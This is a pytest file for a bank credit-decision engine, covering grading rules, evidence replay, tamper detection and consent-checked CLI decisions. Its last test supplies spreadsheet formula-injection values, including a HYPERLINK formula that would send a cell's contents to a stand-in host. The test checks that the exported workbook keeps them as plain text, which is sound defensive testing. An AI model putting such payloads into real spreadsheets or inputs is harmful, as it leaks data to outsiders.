"""Decision tables: boundaries of each component, degradation flags, records and evidence replay."""

from __future__ import annotations

import json
from datetime import date
from decimal import Decimal

import numpy as np
import polars as pl
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select
from tests.credit.firms import add_firm, cli, points_run, uscc

from kejin.credit import dataset, decisions, evidence, points_link, registry, scorecard
from kejin.db import transaction
from kejin.errors import NotFoundError, ValidationError

TABLE = decisions.load_table("points_credit")
T = TABLE.table


def snap(**over: object) -> dict:
    base = {
        "uscc": uscc(1),
        "as_of": "2026-06-01",
        "firm": {
            "name": "x",
            "stage": "growth",
            "dishonest": False,
            "deregistered": False,
            "abnormal_operation": False,
        },
        "qualifications": ["hnte"],
        "revenue": {"2024": "20000000.00", "2025": "30000000.00"},
        "tax_credit_grade": "A",
        "current_days_past_due": 0,
        "points": {"total": 85.0, "year": 2025, "system": "s1"},
        "points_area": True,
        "model_id": None,
        "features": {},
    }
    base.update(over)
    return base


@pytest.mark.parametrize(
    ("points", "grade", "credit", "rate", "term"),
    [
        (80.0, "A", True, "0.030000", 36),
        (79.99, "B", True, "0.033000", 24),
        (65.0, "B", True, "0.033000", 24),
        (64.99, "C", False, "0.036000", 12),
        (50.0, "C", False, "0.036000", 12),
    ],
)
def test_grade_boundaries_drive_credit_rate_term(
    points: float, grade: str, credit: bool, rate: str, term: int
) -> None:
    out = decisions.evaluate(snap(points={"total": points, "year": 2025, "system": "s1"}), T, None)
    assert out["grade"]["value"] == grade
    assert out["eligible"]["value"] is True
    assert out["decision.credit_allowed"]["value"] is credit
    assert out["decision.rate"]["value"] == rate
    assert out["decision.term_months"]["value"] == term


def test_grade_d_is_not_eligible_and_gets_no_terms() -> None:
    out = decisions.evaluate(snap(points={"total": 49.99, "year": 2025, "system": "s1"}), T, None)
    assert out["grade"]["value"] == "D" and out["eligible"]["value"] is False
    assert {r["code"] for r in out["eligible"]["reasons"]} == {"eligibility.grade"}
    for k in ("decision.limit", "decision.rate", "decision.term_months"):
        assert out[k]["value"] is None


@pytest.mark.parametrize(("dpd", "ok"), [(30, True), (31, False)])
def test_days_past_due_boundary(dpd: int, ok: bool) -> None:
    assert decisions.evaluate(snap(current_days_past_due=dpd), T, None)["eligible"]["value"] is ok


def test_exclusions_each_named() -> None:
    out = decisions.evaluate(
        snap(
            firm={
                "name": "x",
                "stage": "growth",
                "dishonest": True,
                "deregistered": False,
                "abnormal_operation": True,
            },
            qualifications=[],
            tax_credit_grade="D",
        ),
        T,
        None,
    )
    codes = {r["code"] for r in out["eligible"]["reasons"]}
    assert codes == {
        "eligibility.dishonest",
        "eligibility.abnormal_operation",
        "eligibility.qualification",
        "eligibility.tax_grade",
    }


def test_limit_average_uplift_cap_and_rounding() -> None:
    # avg(20M, 30M) = 25M × 0.2 = 5,000,000
    assert decisions.evaluate(snap(), T, None)["decision.limit"]["value"] == "5000000.00"
    # top list: × 1.15 = 5,750,000
    out = decisions.evaluate(snap(qualifications=["hnte", "little_giant"]), T, None)
    assert out["decision.limit"]["value"] == "5750000.00"
    assert "limit.top_list_uplift" in {r["code"] for r in out["decision.limit"]["reasons"]}
    # huge revenue: capped at the product maximum
    out = decisions.evaluate(
        snap(revenue={"2024": "900000000.00", "2025": "900000000.00"}), T, None
    )
    assert out["decision.limit"]["value"] == "10000000.00"
    assert "limit.product_max" in {r["code"] for r in out["decision.limit"]["reasons"]}
    # rounding down to 10,000: avg 12,345,678.9 × 0.2 = 2,469,135.78 → 2,460,000
    out = decisions.evaluate(snap(revenue={"2024": None, "2025": "12345678.90"}), T, None)
    assert out["decision.limit"]["value"] == "2460000.00"
    assert "limit.one_year_only" in {r["code"] for r in out["decision.limit"]["reasons"]}
    assert Decimal(out["decision.limit"]["value"]) % 10000 == 0


def test_rate_cap_and_lpr_effective_date() -> None:
    text = TABLE.text.replace(
        "spread_bp = { A = 0, B = 30, C = 60 }", "spread_bp = { A = 0, B = 30, C = 95 }"
    )
    t = decisions.parse_table(text).table
    out = decisions.evaluate(snap(points={"total": 55.0, "year": 2025, "system": "s"}), t, None)
    assert out["decision.rate"]["value"] == "0.038000"  # 3.00% + min(95, 80)bp
    assert "rate.cap" in {r["code"] for r in out["decision.rate"]["reasons"]}
    assert (
        decisions.evaluate(snap(as_of="2025-05-19"), T, None)["decision.rate"]["value"]
        == "0.031000"
    )
    assert (
        decisions.evaluate(snap(as_of="2025-05-20"), T, None)["decision.rate"]["value"]
        == "0.030000"
    )


def test_no_points_area_is_flagged_never_zero() -> None:
    out = decisions.evaluate(snap(points=None, points_area=False), T, None)
    assert "points_unavailable" in out["flags"] and "model_unavailable" in out["flags"]
    assert out["grade"]["value"] is None and out["eligible"]["value"] is False


def test_bad_table_is_refused() -> None:
    with pytest.raises(ValidationError) as e:
        decisions.parse_table(TABLE.text.replace('k = "0.20"', 'k = "-1"'))
    assert e.value.problems[0].field == "limit.k"
    with pytest.raises(NotFoundError):
        decisions.load_table("no_such_product")


def _tech_model(engine: Engine) -> str:
    rng = np.random.default_rng(0)
    n = 800
    lev = rng.uniform(0, 1, n)
    g = rng.normal(0, 0.3, n)
    y = (rng.uniform(size=n) < 1 / (1 + np.exp(-(-2 + 3 * lev - 2 * g)))).astype(int)
    art = scorecard.fit(
        dataset.prepare(pl.DataFrame({"leverage": lev, "revenue_growth": g, "bad": y}), "bad")
    )
    return registry.register(engine, art, "tech_firm").id


def test_decide_records_and_evidence_replays(engine: Engine, tmp_path) -> None:  # type: ignore[no-untyped-def]
    model_id = _tech_model(engine)
    code = add_firm(engine, 7, quals=("hnte", "little_giant"), dpd=0)
    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1), officer="王经理")
    # The points area exists but has never scored this firm: graded by the model's PD, and said so.
    assert out["model_id"] == model_id
    assert "points_missing" in out["flags"] and "points_unavailable" not in out["flags"]
    assert out["grade"]["basis"] == "pd"
    assert "grade.fallback_pd" in {r["code"] for r in out["grade"]["reasons"]}
    assert 0 < out["pd"] < 1
    # A colleague acts on it: the record keeps who asked for the decision and who acted.
    decisions.record_action(engine, out["decision_id"], "李审批", "approve", contract_no="L7")
    summary = evidence.export(engine, "L7", tmp_path)
    assert summary["reproduces"] is True and summary["differences"] == []
    pack = json.loads((tmp_path / f"evidence-{out['decision_id']}.json").read_text())
    assert pack["action"] == "approve" and pack["model"]["content_hash"] == model_id
    assert (pack["officer"], pack["action_by"]) == ("王经理", "李审批")
    assert pack["inputs"]["revenue"] == {"2024": "20000000.00", "2025": "30000000.00"}
    wb = load_workbook(tmp_path / f"evidence-{out['decision_id']}.xlsx")
    assert wb.sheetnames == ["summary 概览", "decision 决策", "inputs 输入快照", "table 决策表"]
    # Registry changes after the decision do not change the replay: it reads only the record.
    add_firm(engine, 8)
    assert evidence.pack(engine, str(out["decision_id"]))["replay"]["reproduces"] is True


def test_tampered_record_does_not_reproduce(engine: Engine) -> None:
    code = add_firm(engine, 9)
    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1))
    from kejin.credit.tables import CreditDecision
    from kejin.db import transaction

    with transaction(engine) as s:
        row = s.get(CreditDecision, out["decision_id"])
        stored = json.loads(row.outputs)
        stored["decision.credit_allowed"]["value"] = True
        row.outputs = json.dumps(stored)
    rep = evidence.pack(engine, str(out["decision_id"]))["replay"]
    assert rep["reproduces"] is False and rep["differences"] == ["decision.credit_allowed"]


def test_points_from_the_points_area_are_used(engine: Engine) -> None:
    """The points area's tables, read through the seam: the latest system, latest run per year."""
    code = add_firm(engine, 11)
    points_run(engine, 1, "lyg", 2024, {code: 60.0})
    points_run(engine, 2, "lyg", 2025, {code: 70.0})
    points_run(engine, 3, "lyg", 2025, {code: 81.0})  # re-scored 2025: the latest run wins
    points_run(engine, 4, "other", 2023, {code: 10.0})  # the most recent run's system
    with engine.connect() as conn:
        frame = points_link.points_frame(conn, [code])
    assert frame is not None
    assert frame.to_dicts() == [
        {"uscc": code, "year": 2023, "total": 10.0, "base": 10.0, "bonus": 0.0, "system": "other:1"}
    ]
    from kejin.points.tables import ScoreResult, ScoreRun

    with transaction(engine) as s:
        s.query(ScoreResult).filter_by(run_id=4).delete()
        s.query(ScoreRun).filter_by(id=4).delete()
    with engine.connect() as conn:
        assert points_link.points_frame(conn, [code])["total"].to_list() == [60.0, 81.0]
    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1), store=False)
    assert out["grade"]["value"] == "A" and out["grade"]["basis"] == "points"
    assert out["grade"]["reasons"][0]["code"] == "grade.points"
    assert out["flags"] == ["model_unavailable"]
    assert out["decision.limit"]["value"] == "5000000.00"


def test_a_model_trained_with_points_features_scores_the_decision(engine: Engine, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The tech-firm model is trained with the points of the year before (tech_model.split); a
    decision must hand it the same columns as of its own date, or the model cannot score."""
    rng = np.random.default_rng(1)
    n = 1500
    lev, pts = rng.uniform(0, 1, n), rng.uniform(20, 100, n)
    y = (rng.uniform(size=n) < 1 / (1 + np.exp(-(-1 + 2 * lev - 0.05 * (pts - 60))))).astype(int)
    frame = pl.DataFrame({"leverage": lev, "points_total": pts, "bad": y})
    art = scorecard.fit(dataset.prepare(frame, "bad"))
    assert "points_total" in {v["name"] for v in art["variables"]}
    model_id = registry.register(engine, art, "tech_firm").id
    high, low, unscored = add_firm(engine, 21), add_firm(engine, 22), add_firm(engine, 23)
    points_run(engine, 1, "lyg", 2024, {high: 10.0, low: 90.0})  # an older year: not read
    points_run(engine, 2, "lyg", 2025, {high: 95.0, low: 25.0})
    out = {
        c: decisions.decide(engine, c, TABLE, as_of=date(2026, 6, 1)) for c in (high, low, unscored)
    }
    assert {o["model_id"] for o in out.values()} == {model_id}
    assert out[high]["pd"] < out[low]["pd"]  # same registry data, points only differ
    # the decision's evidence holds the feature the model read: the 2025 run's total
    pack = evidence.pack(engine, str(out[high]["decision_id"]))
    assert pack["inputs"]["features"]["points_total"] == 95.0
    assert pack["replay"]["reproduces"] is True
    # a firm the points area never scored is scored through the missing bin, not refused
    assert (
        evidence.pack(engine, str(out[unscored]["decision_id"]))["inputs"]["features"][
            "points_total"
        ]
        is None
    )
    assert 0 < out[unscored]["pd"] < 1


def test_unknown_firm_and_action_errors(engine: Engine) -> None:
    with pytest.raises(NotFoundError):
        decisions.decide(engine, uscc(404), TABLE)
    code = add_firm(engine, 12)
    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1))
    with pytest.raises(ValidationError, match="override needs a note"):
        decisions.record_action(engine, out["decision_id"], "李", "override")
    with pytest.raises(NotFoundError):
        evidence.pack(engine, "L-none")


def _bank_user(engine: Engine, bank: str, username: str) -> None:
    from kejin.access.accounts import create_user
    from kejin.access.service import SYSTEM
    from kejin.lending.tables import Institution

    with transaction(engine) as s:
        if s.get(Institution, bank) is None:
            s.add(
                Institution(
                    id=bank, name="测试银行", kind="bank", region_code="320700",
                    partner_bank=True, tech_branch=True,
                )
            )  # fmt: skip
            s.flush()
        # Usable at once (the demo exemption): the CLI acts as this officer, and an account
        # still holding a password someone else chose may do nothing but change it.
        create_user(
            s, SYSTEM, username=username, role="bank_officer", password="seven-quiet-lanterns",
            institution_id=bank, exemption="demo",
        )  # fmt: skip


def _credit_consent(
    engine: Engine, code: str, bank: str, purpose: str = "credit_assessment"
) -> int:
    """The firm (through a user of its own) lets ``bank`` assess it: a bank's decision needs it."""
    from datetime import timedelta

    from tests.service.world import add_user

    from kejin.access.audit import utcnow
    from kejin.access.service import grant_consent, principal_of

    with transaction(engine) as s:
        user = add_user(s, None, f"ent-{code}-{bank}-{purpose}", "enterprise_user", uscc=code)
        return grant_consent(
            s, principal_of(user), uscc=code, institution_id=bank, purpose=purpose,
            scope="full", expires_at=utcnow() + timedelta(days=365),
        ).id  # fmt: skip


def test_cli_decide_acts_as_the_named_bank_officer(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CLI decision is the act of the bank officer ``--who`` names, as on the web: without a
    name, or with one that is no active platform user, it is refused naming ``--who`` and
    nothing is recorded; with the bank user it is recorded under that officer, for its bank."""
    from kejin.access.rules import Unauthenticated
    from kejin.credit.tables import CreditDecision

    code = add_firm(engine, 11, quals=("hnte",), dpd=0)
    _bank_user(engine, "BKZ", "zbank")
    _credit_consent(engine, code, "BKZ")
    with cli(engine, monkeypatch) as run:
        base = ["credit", "decide", code, "--product", "points_credit", "--as-of", "2026-06-01"]
        for extra in ([], ["--officer", "王经理"]):
            r = run(*base, *extra, "--json")
            assert isinstance(r.exception, Unauthenticated), r.output
            assert r.exception.problems[0].field == "--who"
        with engine.connect() as conn:
            assert conn.scalar(select(func.count()).select_from(CreditDecision)) == 0
        r = run(*base, "--who", "zbank", "--json")
        assert r.exit_code == 0, r.output
        assert decisions.officer_institution(engine, "zbank") == "BKZ"
        with engine.connect() as conn:
            assert conn.scalars(select(CreditDecision.officer)).all() == ["zbank"]
        # A bad --as-of is refused with the field named, not a ValueError traceback.
        r = run(*base[:-1], "2026-13-01", "--who", "zbank")
        assert isinstance(r.exception, ValidationError)
        assert r.exception.problems[0].field == "--as-of"


def test_cli_demo_decides_for_the_officers_borrowers_in_good_standing(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The demo gives a bank's history something to show: decisions for that bank's borrowers
    (never a dishonest one), each recorded under the officer; without a bank user, a refusal."""
    from kejin.access.rules import Unauthenticated
    from kejin.credit.tables import CreditDecision

    good = [add_firm(engine, n, dpd=0) for n in (31, 32, 33)]
    dishonest = add_firm(engine, 34, dpd=0, dishonest=True)
    other_bank_only = add_firm(engine, 35)  # no loan: not a borrower
    unconsented = add_firm(engine, 36, dpd=0)  # a borrower that never let the bank assess it
    _bank_user(engine, "B1", "b1officer")  # add_firm's loans are with B1
    for code in good:
        _credit_consent(engine, code, "B1")
    with cli(engine, monkeypatch) as run:
        r = run("credit", "demo", "--officer", "nobody")
        assert isinstance(r.exception, Unauthenticated)
        assert r.exception.problems[0].field == "--who"
        r = run("credit", "demo", "--officer", "b1officer", "--firms", "2")
        assert r.exit_code == 0, r.output
        r = run("credit", "demo", "--officer", "b1officer")
        assert r.exit_code == 0, r.output
    with engine.connect() as conn:
        rows = conn.execute(
            select(CreditDecision.uscc, CreditDecision.officer).order_by(CreditDecision.id)
        ).all()
    assert [u for u, _ in rows] == sorted(good)[:2] + sorted(good)
    assert {o for _, o in rows} == {"b1officer"}
    assert dishonest not in {u for u, _ in rows} and other_bank_only not in {u for u, _ in rows}
    assert unconsented not in {u for u, _ in rows}


def test_cli_demo_has_borrowers_consent_first_for_several_outcomes(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--consents N``: N borrowers grant the bank their consent, each as its own enterprise
    user through the audited consent service, so the demo bank has several decisions — with
    different outcomes — to look at; a dishonest borrower is never among them."""
    from kejin.access.tables import AuditEvent, Consent, User
    from kejin.credit.tables import CreditDecision

    strong = add_firm(engine, 41, quals=("hnte",), dpd=0)
    unqualified = add_firm(engine, 42, quals=(), dpd=0)  # no qualification: not eligible
    overdue = add_firm(engine, 43, quals=("hnte",), dpd=60)  # past the table's 30 days
    add_firm(engine, 44, quals=("hnte",), dpd=0, dishonest=True)
    _bank_user(engine, "B1", "b1officer")
    with cli(engine, monkeypatch) as run:
        r = run("credit", "demo", "--who", "b1officer", "--consents", "3")
        assert r.exit_code == 0, r.output
    with engine.connect() as conn:
        decided = conn.execute(select(CreditDecision.uscc, CreditDecision.outputs)).all()
        consents = conn.execute(select(Consent.uscc, Consent.granted_by)).all()
        grants = conn.execute(
            select(AuditEvent.actor, AuditEvent.actor_role, AuditEvent.entity_id).where(
                AuditEvent.action == "consent.grant"
            )
        ).all()
        users = dict(conn.execute(select(User.id, User.uscc)).all())
    assert {u for u, _ in decided} == {strong, unqualified, overdue}
    why = {
        u: frozenset(r["code"] for r in json.loads(o)["eligible"]["reasons"]) for u, o in decided
    }
    assert "eligibility.qualification" in why[unqualified] - why[strong]
    assert "eligibility.past_due" in why[overdue] - why[strong]  # each outcome its own reasons
    assert {users[g] for _, g in consents} == {u for u, _ in consents}  # each by its own user
    assert {role for _, role, _ in grants} == {"enterprise_user"} and len(grants) == 3


def test_evidence_workbook_keeps_formula_looking_text_as_text(engine: Engine, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The officer's name and note reach the summary sheet: a live =HYPERLINK there once."""
    _tech_model(engine)
    code = add_firm(engine, 7, quals=("hnte",), dpd=0)
    link = '=HYPERLINK("http://x.example/?d="&B2,"证据")'
    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1), officer=link)
    decisions.record_action(engine, out["decision_id"], "@SUM(1)", "approve", note="＝1+1")
    evidence.export(engine, str(out["decision_id"]), tmp_path)
    wb = load_workbook(tmp_path / f"evidence-{out['decision_id']}.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    summary = {r[0].value: r[1] for r in wb["summary 概览"].iter_rows()}
    for key, text in (("officer", link), ("action_by", "@SUM(1)"), ("action_note", "＝1+1")):
        assert summary[key].value == text and summary[key].quotePrefix, key
